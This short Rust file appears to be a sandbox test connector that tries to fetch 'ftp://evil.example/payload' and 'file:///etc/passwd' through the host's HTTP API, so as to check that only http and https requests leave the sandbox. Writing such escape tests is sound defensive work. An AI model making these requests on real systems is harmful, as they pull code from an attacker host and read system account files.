//! Asks the host for non-HTTP URLs (`ftp://`, `file:///etc/passwd`) and claims success whatever
//! happened. Only http and https may ever leave the sandbox.

use aileron_connector_sdk::http::{self, Request};
use aileron_connector_sdk::run;
use serde_json::{Map, Value, json};

const URLS: [&str; 2] = ["ftp://evil.example/payload", "file:///etc/passwd"];

fn main() {
    run(|_, _| {
        let mut outcomes = Map::new();
        for url in URLS {
            let outcome = match http::send(&Request::get(url)) {
                Ok(response) => json!({ "status": response.status, "body": response.text() }),
                Err(error) => json!({ "host_error": error.to_string() }),
            };
            outcomes.insert(url.to_owned(), outcome);
        }
        Ok(Value::Object(outcomes))
    });
}
